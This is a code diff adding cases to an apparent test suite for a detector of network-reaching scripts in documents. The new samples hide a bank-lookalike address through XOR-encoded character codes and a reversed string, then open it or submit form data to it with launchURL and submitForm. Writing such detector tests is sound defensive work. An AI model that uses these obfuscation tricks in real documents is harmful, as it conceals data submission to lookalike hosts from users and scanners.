@@ -289,6 +289,25 @@ suite('a script', () => {
       click(js('app.openDoc({cPath: encodeURI("https://a.example/"), cFS: "CHTTP"})')),
       ['ScriptNetwork'],
     ],
+    [
+      'opens an address of computed letters',
+      script(
+        'var n=[72,84,84,80,83,26,15,15,66,65,78,75,13,67,65,83,69,14,67,79,77,15];var s="";for(var i=0;i<n.length;i++)s+=String.fromCharCode(n[i]^32);app["launch"+"URL"](s,true)',
+      ),
+      ['ScriptHidden!', 'ScriptNetwork'],
+    ],
+    [
+      'sends to an address that is turned round',
+      script('this.submitForm("moc.esac-knab//:sptth".split("").reverse().join(""))'),
+      ['ScriptHidden!', 'ScriptNetwork'],
+    ],
+    [
+      'opens an address of a server and a path',
+      script(
+        'var server="forms.insurer.example";var p=["a","b"].join("/");app.launchURL("https://"+server+"/"+p,true)',
+      ),
+      ['ScriptNetwork'],
+    ],
     ['asks a server', script('SOAP.request({cURL: "https://a.example/", oRequest: {}})'), ['ScriptNetwork']],
     ['loads a picture', script('var i = new Image(); i.src = "https://a.example/"'), ['ScriptNetwork']],
     ['reaches a share', script('SOAP.connect("\\\\\\\\a.example\\\\b")'), ['AutomaticShare!']],
